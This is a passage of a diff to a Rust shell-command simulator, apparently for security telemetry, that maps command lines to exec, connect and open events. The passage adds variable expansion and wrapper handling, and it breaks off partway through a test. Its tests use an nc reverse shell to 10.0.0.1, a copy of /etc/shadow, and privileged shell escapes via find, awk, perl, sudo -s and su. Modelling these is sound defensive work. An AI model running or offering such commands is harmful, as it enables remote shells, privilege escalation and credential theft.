@@ -15,12 +15,23 @@
 //! - `sh -c '…'`, `sudo …`, `env …`, `nohup …`, `$(…)` and `` `…` `` start
 //!   the programs they wrap, under the right parent.
 //!
-//! It does not expand variables or globs and does not run what a program
-//! itself starts (`npm run`'s shell, a `find -exec`).
+//! - variables the script assigns (`X=…`, `export X=…`) are expanded, an
+//!   unquoted one split into words; single quotes and `\$` keep a `$`
+//!   literal; `$(mktemp)` names a file under /tmp;
+//! - what a program starts because its arguments say so (`find -exec`,
+//!   `python -c 'os.system(…)'`, `nc -e`, vim's `:!` …) is in `starts`.
+//!
+//! It does not expand globs and does not run what a program starts from a
+//! file or its configuration (`npm run`'s shell, a script's own lines).
+
+use std::collections::HashMap;
 
 use outlier_common::json::JsonEvent;
 
-use crate::sim::{addresses, files, reported_open};
+use crate::sim::{addresses, files, reported_open, temp_suffix};
+
+mod starts;
+use starts::Start;
 
 /// One thing the kernel sees a command line cause.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -81,7 +92,40 @@ const KEYWORDS: &[&str] = &[
 ];
 
 /// Programs that exec their argument in the same process.
-const SAME_PROCESS: &[&str] = &["env", "nohup", "nice", "stdbuf", "setsid", "ionice", "chrt"];
+const SAME_PROCESS: &[&str] = &[
+    "env",
+    "nohup",
+    "nice",
+    "stdbuf",
+    "setsid",
+    "ionice",
+    "chrt",
+    "chroot",
+    "setarch",
+    "linux32",
+    "linux64",
+    "taskset",
+    "prlimit",
+    "nsenter",
+    "pkexec",
+    "unshare",
+    "valgrind",
+    "proxychains",
+    "proxychains4",
+    "torsocks",
+    "numactl",
+    "cgexec",
+    "chpst",
+    "setpriv",
+    "ssh-agent",
+    "choom",
+    "softlimit",
+    "setlock",
+    "aa-exec",
+    "ld.so",
+    "ld-linux.so.2",
+    "ld-linux-x86-64.so.2",
+];
 
 /// Programs that read commands from the terminal: the lines after them are
 /// typed into them.
@@ -132,15 +176,74 @@ const INTERACTIVE: &[&str] = &[
 ];
 
 /// Programs that fork a child to run their argument.
-const FORKING: &[&str] = &["sudo", "doas", "timeout", "xargs", "watch", "flock"];
+const FORKING: &[&str] = &[
+    "sudo",
+    "doas",
+    "timeout",
+    "xargs",
+    "watch",
+    "flock",
+    "strace",
+    "ltrace",
+    "time",
+    "firejail",
+    "fakeroot",
+    "sshpass",
+    "logsave",
+    "perf",
+    "faketime",
+    "runuser",
+    "rlwrap",
+    "unbuffer",
+    "dbus-run-session",
+    "cpulimit",
+    "multitime",
+    "pexec",
+    "distcc",
+    "grc",
+    "openvt",
+    "pidstat",
+];
+
+/// Wrappers that start a shell when given no command (`sudo -s`, `chroot /`,
+/// `unshare -r`).
+const SHELL_BY_DEFAULT: &[&str] = &[
+    "chroot", "setarch", "linux32", "linux64", "unshare", "nsenter", "pkexec", "fakeroot",
+    "firejail", "runuser",
+];
+
+/// The most variables a script may set, and the longest value kept.
+const MAX_VARS: usize = 256;
+const MAX_VALUE: usize = 4096;
+/// The most characters variable expansion may add to one line.
+const MAX_EXPANSION: usize = 1 << 16;
+/// Stands for a `$` the shell keeps literal (single quotes, `\$`) until
+/// expansion is done.
+const LITERAL_DOLLAR: char = '\u{E000}';
 
 /// Shells whose `-c` argument is itself a script.
 const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ksh", "ash", "busybox"];
 
+/// The variables a shell session has set: a login shell keeps them from
+/// one line to the next.
+#[derive(Debug, Default, Clone)]
+pub struct Vars(HashMap<String, String>);
+
 /// The steps a command line causes in a shell.
 pub fn expand(line: &str) -> Vec<Step> {
-    let mut out = Out::default();
+    expand_in(line, &mut Vars::default())
+}
+
+/// The steps a command line causes in a shell session with `vars` set; the
+/// line's assignments are kept in `vars`.
+pub fn expand_in(line: &str, vars: &mut Vars) -> Vec<Step> {
+    let mut out = Out {
+        vars: std::mem::take(vars),
+        budget: MAX_EXPANSION,
+        ..Out::default()
+    };
     run_script(line, None, 0, &mut out);
+    *vars = out.vars;
     out.steps
 }
 
@@ -151,6 +254,11 @@ struct Out {
     /// Each exec's program name and step.
     progs: Vec<String>,
     at: Vec<usize>,
+    vars: Vars,
+    /// What variable expansion may still add to the line.
+    budget: usize,
+    /// Temporary files `mktemp` has named.
+    temps: u32,
 }
 
 impl Out {
@@ -191,6 +299,96 @@ impl Out {
     fn full(&self) -> bool {
         self.execs >= MAX_EXECS
     }
+    fn assign(&mut self, word: &str) {
+        let Some((name, value)) = word.split_once('=') else {
+            return;
+        };
+        if self.vars.0.len() >= MAX_VARS && !self.vars.0.contains_key(name) {
+            return;
+        }
+        let mut value = value.to_string();
+        if value.len() > MAX_VALUE {
+            let mut end = MAX_VALUE;
+            while !value.is_char_boundary(end) {
+                end -= 1;
+            }
+            value.truncate(end);
+        }
+        self.vars.0.insert(name.to_string(), value);
+    }
+    /// The output of a command substitution, where it is known: the file
+    /// `mktemp` makes, the path `which` prints.
+    fn substituted(&mut self, cmd: &str) -> Option<String> {
+        let ws = starts::split(cmd);
+        match ws.iter().map(String::as_str).collect::<Vec<_>>().as_slice() {
+            ["mktemp", ..] => {
+                self.temps += 1;
+                let suffix = temp_suffix(&format!("{cmd}{}", self.temps), 10);
+                Some(format!("/tmp/tmp.{suffix}"))
+            }
+            ["which", p] | ["command", "-v", p] | ["type", "-p", p] if !p.contains('/') => {
+                Some(format!("/usr/bin/{p}"))
+            }
+            _ => None,
+        }
+    }
+    /// `text` with the session's variables expanded; unknown ones are left
+    /// as written.
+    fn expand_vars(&mut self, text: &str) -> String {
+        let c: Vec<char> = text.chars().collect();
+        let mut s = String::with_capacity(text.len());
+        let mut i = 0;
+        while i < c.len() {
+            if c[i] != '$' {
+                s.push(if c[i] == LITERAL_DOLLAR { '$' } else { c[i] });
+                i += 1;
+                continue;
+            }
+            // `${NAME}`, `${NAME:-default}`, or `$NAME`.
+            let (name, default, end) = if c.get(i + 1) == Some(&'{') {
+                let Some(close) = c[i + 2..].iter().position(|&x| x == '}') else {
+                    s.push('$');
+                    i += 1;
+                    continue;
+                };
+                let inner: String = c[i + 2..i + 2 + close].iter().collect();
+                // Only `${NAME:-d}` and `${NAME-d}` have a default; other
+                // operators (`${V%-*}`) leave the text as written.
+                let (name, default) = match inner.split_once(":-").or_else(|| inner.split_once('-'))
+                {
+                    Some((n, d)) if is_name(n) => (n.to_string(), Some(d.to_string())),
+                    Some(_) => (String::new(), None),
+                    None => (inner, None),
+                };
+                (name, default, i + 3 + close)
+            } else {
+                let n: String = c[i + 1..]
+                    .iter()
+                    .enumerate()
+                    .take_while(|&(k, x)| {
+                        *x == '_' || x.is_ascii_alphabetic() || (k > 0 && x.is_ascii_digit())
+                    })
+                    .map(|(_, x)| *x)
+                    .collect();
+                let end = i + 1 + n.chars().count();
+                (n, None, end)
+            };
+            let value = self.vars.0.get(&name).cloned().or(default);
+            match value {
+                Some(v) if !name.is_empty() && v.len() <= self.budget => {
+                    self.budget -= v.len();
+                    s.push_str(&v);
+                }
+                _ => s.extend(
+                    c[i..end]
+                        .iter()
+                        .map(|&x| if x == LITERAL_DOLLAR { '$' } else { x }),
+                ),
+            }
+            i = end.max(i + 1);
+        }
+        s
+    }
 }
 
 /// A word and the command substitutions inside it.
@@ -200,6 +398,8 @@ struct Word {
     subst: Vec<String>,
     /// Quoted somewhere (so `''` is a word, and `#` inside is not a comment).
     quoted: bool,
+    /// Has an unquoted `$`: its expansion is split into words.
+    bare: bool,
 }
 
 #[derive(Debug)]
@@ -278,7 +478,7 @@ fn lex(s: &str) -> Vec<Tok> {
                 if c.get(i + 1) == Some(&'\n') {
                     i += 2;
                 } else if let Some(&n) = c.get(i + 1) {
-                    w.text.push(n);
+                    w.text.push(if n == '$' { LITERAL_DOLLAR } else { n });
                     in_word = true;
                     i += 2;
                 } else {
@@ -290,7 +490,11 @@ fn lex(s: &str) -> Vec<Tok> {
                     .iter()
                     .position(|&x| x == '\'')
                     .map_or(c.len(), |p| i + 1 + p);
-                w.text.extend(&c[i + 1..close]);
+                w.text.extend(
+                    c[i + 1..close]
+                        .iter()
+                        .map(|&x| if x == '$' { LITERAL_DOLLAR } else { x }),
+                );
                 w.quoted = true;
                 in_word = true;
                 i = close + 1;
@@ -302,7 +506,11 @@ fn lex(s: &str) -> Vec<Tok> {
                 while i < c.len() && c[i] != '"' {
                     if c[i] == '\\' && i + 1 < c.len() && matches!(c[i + 1], '"' | '\\' | '$' | '`')
                     {
-                        w.text.push(c[i + 1]);
+                        w.text.push(if c[i + 1] == '$' {
+                            LITERAL_DOLLAR
+                        } else {
+                            c[i + 1]
+                        });
                         i += 2;
                     } else if c[i] == '$' || c[i] == '`' {
                         i = substitution(&c, i, &mut w);
@@ -315,6 +523,7 @@ fn lex(s: &str) -> Vec<Tok> {
             }
             '$' | '`' => {
                 in_word = true;
+                w.bare |= ch == '$';
                 i = substitution(&c, i, &mut w);
             }
             ';' | '(' | ')' => {
@@ -453,7 +662,7 @@ fn redirection(
     let mut sub = lex_one_word(&c[i..]);
     i += sub.1;
     if op.starts_with("<<") && op != "<<<" {
-        heredocs.push((sub.0.text.clone(), op == "<<-"));
+        heredocs.push((sub.0.text.replace(LITERAL_DOLLAR, "$"), op == "<<-"));
         toks.push(Tok::Redir { op, target: None });
     } else {
         sub.0.text = sub.0.text.trim().to_string();
@@ -606,7 +815,7 @@ fn shell_escape(ws: &[Word]) -> Option<String> {
     let rest = t.strip_prefix('!')?;
     let mut cmd: Vec<&str> = vec![rest];
     cmd.extend(ws[1..].iter().map(|w| w.text.as_str()));
-    let cmd = cmd.join(" ").trim().to_string();
+    let cmd = cmd.join(" ").trim().replace(LITERAL_DOLLAR, "$");
     (!cmd.is_empty()).then_some(cmd)
 }
 
@@ -644,29 +853,72 @@ fn command(
         return Ran::Done;
     }
     // Command substitutions run first, in subshells of this shell; the
-    // command's arguments carry their output, which is not modelled.
+    // command's arguments carry their output where it is known (`mktemp`'s
+    // file), else nothing.
     for w in ws
         .iter_mut()
         .chain(rs.iter_mut().filter_map(|(_, t)| t.as_mut()))
     {
+        let saved = out.vars.clone();
         for s in &w.subst {
             run_script(s, shell, depth + 1, out);
         }
-        for s in &w.subst {
-            w.text = w
-                .text
-                .replacen(&format!("$({s})"), "", 1)
-                .replacen(&format!("`{s}`"), "", 1);
+        out.vars = saved;
+        for s in std::mem::take(&mut w.subst) {
+            let output = out.substituted(&s).unwrap_or_default();
+            w.text = w.text.replacen(&format!("$({s})"), &output, 1).replacen(
+                &format!("`{s}`"),
+                &output,
+                1,
+            );
         }
     }
-    // Keywords and assignments before the command.
+    // Then variables; an unquoted one's value is split into words.
+    let mut expanded = Vec::with_capacity(ws.len());
+    for w in ws {
+        let text = out.expand_vars(&w.text);
+        if w.bare && !w.quoted && text != w.text && !is_assignment(&w.text) {
+            expanded.extend(text.split_whitespace().map(|t| Word {
+                text: t.to_string(),
+                ..Word::default()
+            }));
+        } else {
+            expanded.push(Word { text, ..w });
+        }
+    }
+    let mut ws = expanded;
+    for t in rs.iter_mut().filter_map(|(_, t)| t.as_mut()) {
+        t.text = out.expand_vars(&t.text);
+    }
+    // Keywords and assignments before the command; alone, the assignments
+    // set the shell's variables.
     let lead = ws
         .iter()
         .take_while(|w| {
             (!w.quoted && KEYWORDS.contains(&w.text.as_str())) || is_assignment(&w.text)
         })
         .count();
-    ws.drain(..lead);
+    let assignments: Vec<Word> = ws.drain(..lead).collect();
+    if ws.is_empty() {
+        for a in assignments.iter().filter(|w| is_assignment(&w.text)) {
+            out.assign(&a.text);
+        }
+    }
+    command_words(ws, rs, shell, replace, depth, out)
+}
+
+/// A simple command whose words are expanded.
+fn command_words(
+    ws: Vec<Word>,
+    rs: Vec<(String, Option<Word>)>,
+    shell: Option<usize>,
+    replace: bool,
+    depth: usize,
+    out: &mut Out,
+) -> Ran {
+    if depth > MAX_DEPTH || out.full() {
+        return Ran::Done;
+    }
     let opens = |by: Opener, out: &mut Out| {
         for (op, t) in &rs {
             let Some(t) = t else { continue };
@@ -703,7 +955,7 @@ fn command(
         if ws.len() == 1 {
             return Ran::Done;
         }
-        command(ws[1..].to_vec(), Vec::new(), shell, true, depth + 1, out);
+        command_words(ws[1..].to_vec(), Vec::new(), shell, true, depth + 1, out);
         return Ran::Replaced;
     }
     if BUILTINS.contains(&prog.as_str()) && !first.text.contains('/') {
@@ -715,7 +967,17 @@ fn command(
             }
             // `command ls`: runs ls.
             "command" | "builtin" if ws.len() > 1 && !ws[1].text.starts_with('-') => {
-                return command(ws[1..].to_vec(), Vec::new(), shell, replace, depth + 1, out);
+                return command_words(ws[1..].to_vec(), Vec::new(), shell, replace, depth + 1, out);
+            }
+            "export" | "readonly" | "local" | "declare" | "typeset" => {
+                for w in ws[1..].iter().filter(|w| is_assignment(&w.text)) {
+                    out.assign(&w.text);
+                }
+            }
+            "unset" => {
+                for w in &ws[1..] {
+                    out.vars.0.remove(&w.text);
+                }
             }
             _ => {}
         }
@@ -744,6 +1006,14 @@ fn command(
 /// What a program that runs another one starts: `sh -c`'s script, `sudo`'s
 /// command, `env`'s program.
 fn wrapped(argv: &[String], me: usize, depth: usize, out: &mut Out) {
+    // What a program runs is in processes of its own: the variables they
+    // set are not this shell's.
+    let saved = out.vars.clone();
+    wrapped_in(argv, me, depth, out);
+    out.vars = saved;
+}
+
+fn wrapped_in(argv: &[String], me: usize, depth: usize, out: &mut Out) {
     if depth > MAX_DEPTH || out.full() {
         return;
     }
@@ -777,32 +1047,28 @@ fn wrapped(argv: &[String], me: usize, depth: usize, out: &mut Out) {
         }
         return;
     }
-    // `su [-] [user] -c cmd`: su forks the user's shell to run it.
-    if prog == "su" {
-        if let Some(p) = argv.iter().position(|a| a == "-c" || a == "--command")
-            && let Some(cmd) = argv.get(p + 1)
-        {
+    // `su [-] [user] -c cmd`: su forks the user's shell to run it; without
+    // `-c`, the shell itself.
+    if prog == "su" || prog == "runuser" {
+        let (cmd, user) = su_args(&argv[1..]);
+        let root = user.as_deref().is_none_or(|u| u == "root" || u == "0");
+        let shell = match cmd {
+            Some(cmd) => vec!["bash".into(), "-c".into(), cmd],
+            // runuser's `-u user cmd` is a command of its own.
+            None if prog == "su" || !argv.iter().any(|a| a == "-u" || a == "--user") => {
+                vec!["bash".into()]
+            }
+            None => Vec::new(),
+        };
+        if !shell.is_empty() {
             out.wraps(me);
-            let user = argv[1..p]
-                .iter()
-                .find(|a| !a.starts_with('-'))
-                .map_or("root", |a| a.as_str());
-            let sh = out.exec(
-                Some(me),
-                None,
-                vec!["bash".into(), "-c".into(), cmd.clone()],
-            );
-            if user == "root" {
+            let sh = out.exec(Some(me), None, shell.clone());
+            if root {
                 out.as_root(sh);
             }
-            wrapped(
-                &["bash".into(), "-c".into(), cmd.clone()],
-                sh,
-                depth + 1,
-                out,
-            );
+            wrapped(&shell, sh, depth + 1, out);
+            return;
         }
-        return;
     }
     // `watch cmd …` and `flock f -c cmd` run their command through `sh -c`.
     let through_sh = match prog {
@@ -824,11 +1090,44 @@ fn wrapped(argv: &[String], me: usize, depth: usize, out: &mut Out) {
         }
         return;
     }
-    let same = SAME_PROCESS.contains(&prog);
-    if !same && !FORKING.contains(&prog) {
+    // `unshare -f` forks, and nsenter into a pid namespace (`-p`, `-a`)
+    // unless `-F`; else they exec in place.
+    let short = |f: char| {
+        argv[1..]
+            .iter()
+            .any(|a| a.starts_with('-') && !a.starts_with("--") && a.contains(f))
+    };
+    let forks = match prog {
+        "unshare" => short('f') || argv.iter().any(|a| a == "--fork"),
+        "nsenter" => {
+            (short('p')
+                || short('a')
+                || argv.iter().any(|a| a.starts_with("--pid") || a == "--all"))
+                && !(short('F') || argv.iter().any(|a| a == "--no-fork"))
+        }
+        _ => false,
+    };
+    let same = SAME_PROCESS.contains(&prog) && !forks;
+    if !same && !forks && !FORKING.contains(&prog) {
+        started(argv, me, depth, out);
         return;
     }
-    let inner = inner_command(prog, &argv[1..]);
+    let mut inner = inner_command(prog, &argv[1..]);
+    let root_shell = matches!(prog, "sudo" | "doas")
+        && argv[1..]
+            .iter()
+            .take_while(|a| a.starts_with('-'))
+            .any(|a| matches!(a.as_str(), "-s" | "-i" | "--shell" | "--login"));
+    // `--help`, `--version`, `--list` start nothing.
+    let info = argv[1..].iter().any(|a| {
+        matches!(
+            a.as_str(),
+            "-h" | "--help" | "-V" | "--version" | "--list" | "-l" | "--tree"
+        )
+    });
+    if inner.is_empty() && !info && (root_shell || SHELL_BY_DEFAULT.contains(&prog)) {
+        inner = vec![if root_shell { "bash" } else { "sh" }.to_string()];
+    }
     if inner.is_empty() {
         return;
     }
@@ -843,10 +1142,99 @@ fn wrapped(argv: &[String], me: usize, depth: usize, out: &mut Out) {
         .position(|a| a == "-u")
         .and_then(|p| argv.get(p + 1))
         .map_or("root", |u| u.as_str());
-    if matches!(prog, "sudo" | "doas") && (user == "root" || user == "0") {
+    if (matches!(prog, "sudo" | "doas") && (user == "root" || user == "0"))
+        || (prog == "pkexec" && !argv.iter().any(|a| a == "--user"))
+    {
         out.as_root(id);
     }
     wrapped(&inner, id, depth + 1, out);
+}
+
+/// su's and runuser's command (`-c cmd`, `-lc cmd`, `--command=cmd`) and
+/// user (the first word that is not an option or an option's value).
+fn su_args(args: &[String]) -> (Option<String>, Option<String>) {
+    let (mut cmd, mut user) = (None, None);
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i].as_str();
+        if let Some(c) = a.strip_prefix("--command=") {
+            cmd = Some(c.to_string());
+        } else if a == "--command"
+            || (a.starts_with('-')
+                && !a.starts_with("--")
+                && a.ends_with('c')
+                && a[1..].chars().all(|c| c.is_ascii_alphabetic()))
+        {
+            cmd = args.get(i + 1).cloned();
+            i += 1;
+        } else if matches!(
+            a,
+            "-s" | "--shell" | "-g" | "--group" | "-G" | "--supp-group" | "-w" | "-u" | "--user"
+        ) {
+            if a == "-u" || a == "--user" {
+                user = args.get(i + 1).cloned();
+            }
+            i += 1;
+        } else if a == "--" {
+            // runuser -u user -- cmd: the command is runuser's own.
+            break;
+        } else if !a.starts_with('-') && user.is_none() {
+            user = Some(a.to_string());
+        }
+        i += 1;
+    }
+    (cmd, user)
+}
+
+/// What a program starts because its arguments say so (`starts`), under it
+/// or in its place. It is a wrapper (makes none of the connections and
+/// opens none of the files its arguments name) when what it starts covers
+/// them all: `find / -exec cat /etc/shadow {} ;` does not open the file
+/// itself, `nc -e /bin/sh 10.0.0.1 4444` does connect.
+fn started(argv: &[String], me: usize, depth: usize, out: &mut Out) {
+    let ss = starts::starts(argv);
+    if ss.is_empty() {
+        return;
+    }
+    let words_of = |s: &Start| match s {
+        Start::Replace(v) | Start::Child(v) => v.clone(),
+        Start::Shell(c) | Start::ReplaceShell(c) => starts::split(c),
+    };
+    let text: String = ss.iter().flat_map(words_of).collect::<Vec<_>>().join(" ");
+    let covered_addrs: Vec<(String, u32)> =
+        ss.iter().flat_map(|s| addresses(&words_of(s))).collect();
+    let own_addrs = addresses(argv);
+    let own_files = files(argv, "~");
+    if (!own_addrs.is_empty() || !own_files.is_empty())
+        && own_addrs.iter().all(|a| covered_addrs.contains(a))
+        && own_files.iter().all(|(p, _)| text.contains(p.as_str()))
+    {
+        out.wraps(me);
+    }
+    for s in ss {
+        if depth > MAX_DEPTH || out.full() {
+            return;
+        }
+        let (argv, replace) = match s {
+            Start::Replace(v) => (v, true),
+            Start::Child(v) => (v, false),
+            Start::Shell(c) => (vec!["sh".into(), "-c".into(), c], false),
+            Start::ReplaceShell(c) => (vec!["sh".into(), "-c".into(), c], true),
+        };
+        if argv.first().is_none_or(|p| p.is_empty()) {
+            continue;
+        }
+        let id = if replace {
+            out.exec(None, Some(Some(me)), argv.clone())
+        } else {
+            out.exec(Some(me), None, argv.clone())
+        };
+        wrapped(&argv, id, depth + 1, out);
+        // The program is gone: nothing after its exec runs.
+        if replace {
+            return;
+        }
+    }
 }
 
 /// The words and redirections of a script that is one simple command.
@@ -880,7 +1268,46 @@ fn inner_command(prog: &str, args: &[String]) -> Vec<String> {
         "stdbuf" => &["-i", "-o", "-e"],
         "env" => &["-u", "-C", "-S"],
         "watch" => &["-n", "-d"],
+        "nsenter" => &["-t", "--target", "-S", "-G", "-r", "-w"],
+        "pkexec" => &["--user"],
+        "strace" | "ltrace" => &["-o", "-e", "-p", "-s", "-u", "-E", "-I", "-P", "-a", "-b"],
+        "time" => &["-f", "-o", "--format", "--output"],
+        "fakeroot" => &["-l", "-s", "-i", "-b"],
+        "sshpass" => &["-p", "-f", "-d", "-e"],
+        "perf" => &["-e", "-o", "-p", "-t", "-r", "-c", "-F", "-G", "-u"],
+        "unshare" => &["-S", "-G", "-R", "-w", "--setuid", "--setgid"],
+        "numactl" => &["-C", "-N", "-m", "-p", "-i"],
+        "cgexec" => &["-g"],
+        "chpst" => &[
+            "-u", "-U", "-e", "-n", "-l", "-L", "-m", "-d", "-o", "-p", "-f", "-c", "-r",
+        ],
+        "runuser" => &["-u", "-g", "-G", "-s", "-w"],
+        "proxychains" | "proxychains4" => &["-f"],
+        "choom" => &["-n", "-p"],
+        "cpulimit" => &["-l", "-p", "-e", "--limit", "--pid", "--exe"],
+        "aa-exec" => &["-p", "-n", "--profile", "--namespace"],
+        "openvt" => &["-c", "-u", "--console"],
+        "pidstat" => &["-p", "-C", "-G"],
+        "grc" => &["-c", "--config"],
         _ => &[],
+    };
+    // `taskset -p`, `prlimit --pid`: they act on a running process.
+    let on_pid = match prog {
+        "taskset" => args.iter().any(|a| a == "-p" || a == "--pid"),
+        "prlimit" => args.iter().any(|a| a == "-p" || a.starts_with("--pid")),
+        _ => false,
+    };
+    if on_pid {
+        return Vec::new();
+    }
+    // `perf stat|record|trace cmd`: the subcommand first.
+    let args = if prog == "perf" {
+        match args.first().map(String::as_str) {
+            Some("stat" | "record" | "trace" | "mem" | "c2c" | "sched" | "kvm") => &args[1..],
+            _ => return Vec::new(),
+        }
+    } else {
+        args
     };
     let mut i = 0;
     while i < args.len() {
@@ -899,12 +1326,30 @@ fn inner_command(prog: &str, args: &[String]) -> Vec<String> {
         }
         break;
     }
-    // Positional arguments before the command.
+    // Positional arguments before the command, then options again
+    // (`setarch x86_64 -R cmd`).
     let skip = match prog {
-        "timeout" | "flock" | "chrt" => 1,
+        "timeout" | "flock" | "chrt" | "chroot" | "setarch" | "taskset" | "logsave" | "setlock"
+        | "faketime" => 1,
         _ => 0,
     };
-    args.iter().skip(i + skip).cloned().collect()
+    i = (i + skip).min(args.len());
+    if skip > 0 {
+        while i < args.len() && args[i].starts_with('-') && args[i].len() > 1 && args[i] != "--" {
+            i += 1;
+        }
+        if args.get(i).is_some_and(|a| a == "--") {
+            i += 1;
+        }
+    }
+    args[i..].to_vec()
+}
+
+fn is_name(n: &str) -> bool {
+    !n.is_empty()
+        && n.chars()
+            .enumerate()
+            .all(|(i, c)| c == '_' || c.is_ascii_alphabetic() || (i > 0 && c.is_ascii_digit()))
 }
 
 fn is_assignment(w: &str) -> bool {
@@ -935,13 +1380,38 @@ pub struct Shell<'a> {
     pub cwd: &'a str,
     /// What `~` is.
     pub home: &'a str,
+    /// The host's executable for a program named without a path, by name
+    /// (`sh` is /usr/bin/dash on Debian); /usr/bin/NAME where unknown.
+    pub exes: Option<&'a Exes>,
+}
+
+/// A host's executable for each program name, as its captures report it.
+pub type Exes = HashMap<String, String>;
+
+/// The executable the kernel reports for `name` run by PATH lookup on a
+/// host whose executables are `exes` (/usr/bin/NAME where unknown).
+pub fn exe_of(exes: Option<&Exes>, name: &str) -> String {
+    exes.and_then(|m| m.get(name))
+        .cloned()
+        .unwrap_or_else(|| format!("/usr/bin/{name}"))
 }
 
 /// The exec, connect and open events a command line run in `shell` causes,
 /// as the collector reports them (kind, pids, names, argv, paths, flags,
 /// addresses); the caller sets the org, workload, host and times. `new_pid`
 /// gives each new process its pid.
-pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -> Vec<JsonEvent> {
+pub fn events(line: &str, shell: &Shell<'_>, new_pid: impl FnMut() -> u32) -> Vec<JsonEvent> {
+    events_in(line, shell, &mut Vars::default(), new_pid)
+}
+
+/// `events` in a shell session with `vars` set (a login shell's earlier
+/// lines); the line's assignments are kept in `vars`.
+pub fn events_in(
+    line: &str,
+    shell: &Shell<'_>,
+    vars: &mut Vars,
+    mut new_pid: impl FnMut() -> u32,
+) -> Vec<JsonEvent> {
     #[derive(Clone)]
     struct P {
         pid: u32,
@@ -955,7 +1425,7 @@ pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -
     let mut procs: Vec<P> = vec![P {
         pid: shell.pid,
         comm: shell.comm.to_string(),
-        exe: format!("/usr/bin/{}", shell.comm),
+        exe: exe_of(shell.exes, shell.comm),
         ppid: shell.ppid,
         parent_comm: shell.parent_comm.to_string(),
         uid: shell.uid,
@@ -992,7 +1462,7 @@ pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -
             ..base("open", p)
         });
     };
-    for step in expand(line) {
+    for step in expand_in(line, vars) {
         match step {
             Step::Exec {
                 parent,
@@ -1013,7 +1483,7 @@ pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -
                         prog.trim_start_matches("./")
                     )
                 } else {
-                    format!("/usr/bin/{name}")
+                    exe_of(shell.exes, &comm)
                 };
                 let me = procs.len() - 1;
                 let mut p = match replaces {
@@ -1292,6 +1762,7 @@ mod tests {
             uid: 33,
             cwd: "/var/www/app",
             home: "/var/www",
+            exes: None,
         };
         let mut next = 1000;
         let evs = events(
@@ -1376,7 +1847,178 @@ mod tests {
     }
 
     #[test]
+    fn variables_the_script_sets_are_expanded() {
+        assert_eq!(
+            execs("X=/bin/sh; $X -i"),
+            [(None, "/bin/sh -i".to_string())]
+        );
+        // An unquoted variable is split into words; nc's `-e` execs the
+        // shell in nc's process.
+        assert_eq!(
+            execs("CMD='nc -e /bin/sh 10.0.0.1 4444'\n$CMD"),
+            [
+                (None, "nc -e /bin/sh 10.0.0.1 4444".to_string()),
+                (None, "/bin/sh".to_string())
+            ]
+        );
+        // Single quotes and `\$` keep `$`; `${X:-…}` has a default.
+        assert_eq!(
+            execs("X=1; export Y=\"a b\"; cat '$X' \\$X \"$X\" \"$Y\" ${Z:-/etc/z}"),
+            [(None, "cat $X $X 1 a b /etc/z".to_string())]
+        );
+        // `X=1 cmd` sets X for cmd only; an unknown variable stays as written.
+        assert_eq!(
+            execs("X=1 env; ls $X $UNSET"),
+            [
+                (None, "env".to_string()),
+                (None, "ls $X $UNSET".to_string())
+            ]
+        );
+        // An assignment's value is not split; `${V%-*}` is not a default;
+        // a child shell's assignments are its own.
+        assert_eq!(
+            execs("O='-avz --delete'; X=$O; rsync $X ${V%-*} a b; sh -c 'Y=1'; ls $Y"),
+            [
+                (None, "rsync -avz --delete ${V%-*} a b".to_string()),
+                (None, "sh -c Y=1".to_string()),
+                (None, "ls $Y".to_string())
+            ]
+        );
+        // A login session keeps variables from one line to the next.
+        let mut vars = Vars::default();
+        expand_in("PID=42", &mut vars);
+        let s = expand_in("cat /proc/$PID/maps", &mut vars);
+        assert!(matches!(&s[0], Step::Exec { argv, .. } if argv[1] == "/proc/42/maps"));
+        // `$(mktemp)` names a new file under /tmp each time.
+        let got = execs("A=$(mktemp); B=$(mktemp -d); cp /etc/shadow $A; ls $B");
+        assert_eq!(got.len(), 4);
+        let (a, b) = (&got[2].1, &got[3].1);
+        assert!(a.starts_with("cp /etc/shadow /tmp/tmp."), "{a}");
+        assert!(b.starts_with("ls /tmp/tmp."), "{b}");
+        assert_ne!(a[15..], b[3..]);
+        // The here document's delimiter is literal.
+        assert_eq!(
+            execs("cat <<'$E'\nid\n$E\nuname"),
+            [(None, "cat".to_string()), (None, "uname".to_string())]
+        );
+    }
+
+    #[test]
+    fn what_a_program_starts_runs_under_it() {
+        assert_eq!(
+            execs("find . -exec /bin/sh -p \\; -quit"),
+            [
+                (None, "find . -exec /bin/sh -p ; -quit".to_string()),
+                (Some(0), "/bin/sh -p".to_string())
+            ]
+        );
+        assert_eq!(
+            execs("awk 'BEGIN {system(\"/bin/sh\")}'"),
+            [
+                (None, "awk BEGIN {system(\"/bin/sh\")}".to_string()),
+                (Some(0), "sh -c /bin/sh".to_string()),
+                (Some(1), "/bin/sh".to_string())
+            ]
+        );
+        // perl's exec replaces perl.
+        assert!(matches!(
+            &expand("perl -e 'exec \"/bin/sh\";'")[1],
+            Step::Exec { replaces: Some(Some(0)), argv, .. } if argv == &["/bin/sh"]
+        ));
+        // `sudo -s` and a bare `su` start a root shell.
+        let s = expand("sudo -s; su");
+        let roots: Vec<(String, bool)> = s
+            .iter()
+            .filter_map(|x| match x {
+                Step::Exec { argv, as_root, .. } => Some((argv.join(" "), *as_root)),
+                _ => None,
+            })
+            .collect();
+        assert_eq!(
+            roots,
+            [
+                ("sudo -s".to_string(), false),
+                ("bash".to_string(), true),
+                ("su".to_string(), false),
+                ("bash".to_string(), true)
+            ]
+        );
+        // Wrappers' options and positional arguments.
+        assert_eq!(
+            execs("setarch x86_64 -R /bin/sh; taskset -p 1 42; chroot /")[1..],
+            [
+                (None, "/bin/sh".to_string()),
+                (None, "taskset -p 1 42".to_string()),
+                (None, "chroot /".to_string()),
+                (None, "sh".to_string())
+            ]
+        );
+
+        // nc connects and then becomes the shell; python's socket code
+        // connects, and pty.spawn's shell is its child.
+        let sh = Shell {
+            pid: 500,
+            comm: "bash",
+            ppid: 400,
+            parent_comm: "sshd",
+            uid: 1000,
+            cwd: "/home/u",
+            home: "/home/u",
+            exes: None,
+        };
+        let mut next = 1000;
+        let evs = events(
